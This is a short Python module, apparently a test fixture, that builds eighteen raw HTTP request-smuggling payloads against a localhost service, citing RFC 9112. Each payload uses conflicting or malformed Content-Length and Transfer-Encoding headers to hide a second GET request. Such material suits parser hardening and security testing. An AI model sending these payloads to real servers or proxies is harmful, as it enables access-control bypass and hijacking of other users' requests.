"""Requests in which two readers could see different ends (RFC 9112 section 11.2), each hiding a second one."""

HIDDEN = b"GET /v1/meta HTTP/1.1\r\nHost: localhost\r\n\r\n"
HEAD = b"POST /v1/needs HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"


def attempts() -> dict[str, bytes]:
    chunked_end = b"0\r\n\r\n"
    length = str(len(chunked_end + HIDDEN)).encode()
    smuggled = chunked_end + HIDDEN
    return {
        "length and coding": HEAD + b"Content-Length: " + length + b"\r\nTransfer-Encoding: chunked\r\n\r\n" + smuggled,
        "coding and length": HEAD + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n" + smuggled,
        "coding with a blank before the colon": HEAD + b"Content-Length: " + length + b"\r\nTransfer-Encoding : chunked\r\n\r\n" + smuggled,
        "coding with a tab": HEAD + b"Content-Length: " + length + b"\r\nTransfer-Encoding:\tchunked\r\n\r\n" + smuggled,
        "coding with a vertical tab": HEAD + b"Content-Length: " + length + b"\r\nTransfer-Encoding: \x0bchunked\r\n\r\n" + smuggled,
        "coding folded": HEAD + b"Content-Length: " + length + b"\r\nTransfer-Encoding:\r\n chunked\r\n\r\n" + smuggled,
        "unknown coding": HEAD + b"Content-Length: " + length + b"\r\nTransfer-Encoding: xchunked\r\n\r\n" + smuggled,
        "two codings": HEAD + b"Content-Length: " + length + b"\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n" + smuggled,
        "two lengths": HEAD + b"Content-Length: 0\r\nContent-Length: " + str(len(HIDDEN)).encode() + b"\r\n\r\n" + HIDDEN,
        "list of lengths": HEAD + b"Content-Length: 0, " + str(len(HIDDEN)).encode() + b"\r\n\r\n" + HIDDEN,
        "signed length": HEAD + b"Content-Length: +0\r\n\r\n" + HIDDEN,
        "length in hexadecimal": HEAD + b"Content-Length: 0x0\r\n\r\n" + HIDDEN,
        "chunk size too large": HEAD + b"Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n" + HIDDEN,
        "chunk size with a prefix": HEAD + b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + HIDDEN,
        "chunk without its end": HEAD + b"Transfer-Encoding: chunked\r\n\r\n1\r\nZZ0\r\n\r\n" + HIDDEN,
        "line feed in a field": HEAD + b"X-A: b\nContent-Length: " + length + b"\r\nTransfer-Encoding: chunked\r\n\r\n" + smuggled,
        "old protocol with a coding": HEAD.replace(b"1.1", b"1.0") + b"Content-Length: " + length + b"\r\nTransfer-Encoding: chunked\r\n\r\n" + smuggled,
        "content of a GET": b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nContent-Length: " + str(len(HIDDEN)).encode() + b"\r\n\r\n" + HIDDEN,
    }
